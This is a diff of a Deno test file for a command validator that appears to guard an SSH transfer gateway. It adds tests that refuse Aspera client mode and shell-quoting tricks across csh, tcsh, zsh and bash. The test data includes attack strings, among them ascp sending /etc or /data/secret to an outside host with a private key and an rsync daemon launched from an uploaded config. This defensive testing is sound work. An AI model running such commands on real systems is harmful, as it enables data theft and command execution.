@@ -64,15 +64,16 @@ Deno.test("checkCommand() allows the default transfer commands", async (t) => {
   const allowed = [
     "scp -t /x",
     "scp -f /data/report.pdf",
-    "ascp --mode=recv --user=bear /tmp",
-    "ascp4 --mode=send --user=bear -l 100m -k 2 /data",
+    "ascp -S. -V1",
+    "ascp --no-mgmt-port-files -M 34001 -S. -V1",
+    "ascp4 -S.",
     "rsync --server -logDtpre.iLsfxC . /data",
     "rsync --server --sender -vlogDtpre.iLsfxCIvu --partial-dir .rsync-partial . /data/a /data/b",
     "scp -t '/dir with spaces'",
     "scp -r -p -d -t -- -dash",
     "scp -v -f /data/*.txt",
     "ascmd",
-    "async --name=job -d /data --direction=push",
+    "async -q -S -s-",
   ];
   for (const command of allowed) {
     await t.step(
@@ -145,6 +146,10 @@ Deno.test("checkCommand() with * allows anything, shells included", () => {
   assertEquals(checkCommand(any, { kind: "subsystem", name: "x" }), { allowed: true });
 });
 
+const ASCP =
+  " (only the server side of a transfer: ascp -S. -V1 or ascp --no-mgmt-port-files -M PORT -S. -V1)";
+const ASYNC = " (only the server side of a transfer: async -q -S -s-)";
+
 Deno.test("checkCommand() refuses the options that make an allowed program run anything", async (t) => {
   const refused: Array<[string, string]> = [
     [
@@ -195,21 +200,24 @@ Deno.test("checkCommand() refuses the options that make an allowed program run a
     ],
     [
       "ascp -i /home/x/.ssh/id --host=evil --mode=send /etc",
-      `ascp option "-i" is refused: it names a private key for an onward connection`,
+      `ascp option "-i" is refused: it names a private key for an onward connection${ASCP}`,
     ],
     [
       "ascp --mode=recv -L /etc/cron.d /tmp",
-      `ascp option "-L" is refused: it writes logs to a directory of the client's choice`,
+      `ascp option "-L" is refused: it writes logs to a directory of the client's choice${ASCP}`,
     ],
     [
       "ascp4 --keepalive --mode=send",
-      `ascp4 option "--keepalive" is refused: it opens a persistent session that reads commands`,
+      `ascp4 option "--keepalive" is refused: it opens a persistent session that reads commands (only the server side of a transfer: ascp4 -S.)`,
     ],
-    ["ascp --unknown /x", `ascp option "--unknown" is not allowed`],
-    ["ascp -P x /x", `ascp option "-P" has a value not allowed here`],
+    ["ascp --unknown /x", `ascp option "--unknown" is not allowed${ASCP}`],
+    [
+      "ascp -P x /x",
+      `ascp option "-P" is refused: it is a client's option: the SSH port of an onward connection${ASCP}`,
+    ],
     [
       "async -i key -N job",
-      `async option "-i" is refused: it names a private key for an onward connection`,
+      `async option "-i" is refused: it names a private key for an onward connection${ASYNC}`,
     ],
     ["ascmd -x", `ascmd takes no arguments, got "-x"`],
   ];
@@ -233,4 +241,171 @@ Deno.test("checkCommand() checks a known program by its base name, others by the
       `command refused: scp option "-o" is refused: it sets ssh options such as ProxyCommand (only -t or -f with -d -p -r -v)`,
   });
   assertEquals(checkCommand(patterns, { kind: "exec", command: "cat -A /x" }), { allowed: true });
+});
+
+Deno.test("checkCommand() refuses Aspera programs as clients, which would connect onward", async (t) => {
+  // Each of these ran upstream before: the old allow-lists held the client options of IBM's
+  // ascp/ascp4/async references, so the internal ascp could be made to log in elsewhere with
+  // the internal account's keys (issue 19, item 8).
+  const client = "it is a client's option: the program would connect onward";
+  const refused: Array<[string, string]> = [
+    [
+      "ascp --mode=send --host=198.51.100.7 --user=x -l 100m /data/secret /in",
+      `ascp option "--host" is refused: ${client}${ASCP}`,
+    ],
+    ["ascp --user=x /data/secret", `ascp option "--user" is refused: ${client}${ASCP}`],
+    ["ascp --mode=recv /tmp", `ascp option "--mode" is refused: ${client}${ASCP}`],
+    [
+      "ascp -P 22 /data/secret x@198.51.100.7:/in",
+      `ascp option "-P" is refused: it is a client's option: the SSH port of an onward connection${ASCP}`,
+    ],
+    [
+      "ascp -l 100m /data/secret x@198.51.100.7:/in",
+      `ascp argument "x@198.51.100.7:/in" is refused: it names a remote host, as a client does${ASCP}`,
+    ],
+    [
+      "ascp4 -l 100m x@198.51.100.7:/data /in",
+      `ascp4 argument "x@198.51.100.7:/data" is refused: it names a remote host, as a client does (only the server side of a transfer: ascp4 -S.)`,
+    ],
+    [
+      "async -N job -d /data -r x@198.51.100.7:/in",
+      `async argument "x@198.51.100.7:/in" is refused: it names a remote host, as a client does${ASYNC}`,
+    ],
+    [
+      "async -N job -d /data -rx@198.51.100.7:/in",
+      `async option "-N" is not allowed${ASYNC}`,
+    ],
+    [
+      "ascp --no-mgmt-port-files -M 198.51.100.7:5000 -S. -V1",
+      `ascp argument "198.51.100.7:5000" is refused: it names a remote host, as a client does${ASCP}`,
+    ],
+    ["ascp --no-mgmt-port-files -M 0 -S. -V1", `ascp argument "0" is not allowed${ASCP}`],
+    ["ascp --no-mgmt-port-files -M 65536 -S. -V1", `ascp argument "65536" is not allowed${ASCP}`],
+    ["ascp -S. -V1 --host=evil", `ascp option "--host" is refused: ${client}${ASCP}`],
+    ["ascp -S. -V1 /etc", `ascp argument "/etc" is not allowed${ASCP}`],
+    ["ascp -S. -V1 -S.", `ascp option "-S." is not allowed${ASCP}`],
+    ["ascp -S.", `ascp arguments "-S." are incomplete${ASCP}`],
+    ["ascp -S . -V1", `ascp option "-S" is not allowed${ASCP}`],
+    ["ascp", `ascp needs its server-side arguments${ASCP}`],
+    [
+      "ascp4 -S. -V1",
+      `ascp4 option "-V1" is not allowed (only the server side of a transfer: ascp4 -S.)`,
+    ],
+    ["async -q -S", `async arguments "-q -S" are incomplete${ASYNC}`],
+  ];
+  for (const [command, reason] of refused) {
+    await t.step(command, () =>
+      assertEquals(checkCommand(DEFAULTS, { kind: "exec", command }), {
+        allowed: false,
+        reason: `command refused: ${reason}`,
+      }));
+  }
+});
+
+Deno.test("checkCommand() refuses what csh, tcsh, zsh or bash would read as other words", async (t) => {
+  // Each passed the checks before and ran upstream as other words than the ones checked when
+  // the internal account's login shell is not sh (issue 19, item 7). The first is the attack:
+  // tcsh reads an rsync daemon run with an uploaded config.
+  const refused: Array<[string, string]> = [
+    [
+      `rsync --server . "\\" --daemon --config=/home/u/up.conf "\\"`,
+      "it has a backslash inside double quotes, which csh and tcsh keep and sh removes (use single quotes)",
+    ],
+    [
+      `scp -t "/in/a\\\\b"`,
+      "it has a backslash inside double quotes, which csh and tcsh keep and sh removes (use single quotes)",
+    ],
+    [
+      "scp -t /in/a!b",
+      `it contains "!", which csh and tcsh expand from history (write \\! outside quotes)`,
+    ],
+    [
+      "scp -t '/in/a!b'",
+      `it contains "!", which csh and tcsh expand from history (write \\! outside quotes)`,
+    ],
+    [
+      `scp -t "/in/!!"`,
+      `it contains "!", which csh and tcsh expand from history (write \\! outside quotes)`,
+    ],
+    ["scp -t '/in/a\nb'", "it has a line break inside quotes, which csh and tcsh refuse"],
+    [`scp -t "/in/a\rb"`, "it has a line break inside quotes, which csh and tcsh refuse"],
+    [
+      "scp -t /in/a#b /in/c",
+      `it contains "#", which starts a comment in csh and tcsh (quote it)`,
+    ],
+    [
+      "scp -t /in/x{}",
+      "it contains a brace, which bash, zsh and csh expand and dash does not (quote it)",
+    ],
+    [
+      "scp -t /in/{a}",
+      "it contains a brace, which bash, zsh and csh expand and dash does not (quote it)",
+    ],
+    [
+      "scp -t /in/}",
+      "it contains a brace, which bash, zsh and csh expand and dash does not (quote it)",
+    ],
+    [
+      "scp -t ~+/in",
+      `it has a "~" that bash, zsh and csh expand differently (quote it, or write ~/… or an absolute path)`,
+    ],
+    [
+      "scp -t ~root/in",
+      `it has a "~" that bash, zsh and csh expand differently (quote it, or write ~/… or an absolute path)`,
+    ],
+    [
+      "scp -t ''~/in",
+      `it has a "~" that bash, zsh and csh expand differently (quote it, or write ~/… or an absolute path)`,
+    ],
+    [
+      "scp -t x=~",
+      `it has a "~" that bash, zsh and csh expand differently (quote it, or write ~/… or an absolute path)`,
+    ],
+    [
+      "scp -t PATH=/in:~/x",
+      `it has a "~" that bash, zsh and csh expand differently (quote it, or write ~/… or an absolute path)`,
+    ],
+    ["scp -t =0", `it has a word starting with "=", which zsh and tcsh expand (quote it)`],
+    ["scp -t ''=ls", `it has a word starting with "=", which zsh and tcsh expand (quote it)`],
+    [
+      "scp -f ^x",
+      `"^x" could expand into an option upstream (quote it, or start it with ./)`,
+    ],
+  ];
+  for (const [command, reason] of refused) {
+    await t.step(
+      JSON.stringify(command),
+      () =>
+        assertEquals(checkCommand(DEFAULTS, { kind: "exec", command }), {
+          allowed: false,
+          reason: `command refused: ${reason}`,
+        }),
+    );
+  }
+});
+
+Deno.test("checkCommand() allows the spellings every login shell reads alike", async (t) => {
+  const allowed = [
+    "scp -t /in/a\\!b",
+    "scp -t '/in/a\"b'",
+    `scp -t "/in/it's"`,
+    "scp -t /in/x\\{\\}",
+    "scp -t '/in/{a,b}'",
+    "scp -t ~",
+    "scp -t ~/in",
+    "scp -t /in/file~",
+    "scp -t 'a#b' a\\#b",
+    "scp -t '/in/a\\b'",
+    "scp -t '/in/a=~' \\=0",
+    "scp -t /in/a^b",
+    "scp -f /data/*.txt",
+    // rsync 3.2.4 and later escape a path's shell characters with backslashes.
+    "rsync --server -logDtpre.iLsfxCIvu . dir\\ with\\ space/a\\!b\\{c\\}\\#d",
+  ];
+  for (const command of allowed) {
+    await t.step(
+      command,
+      () => assertEquals(checkCommand(DEFAULTS, { kind: "exec", command }), { allowed: true }),
+    );
+  }
 });
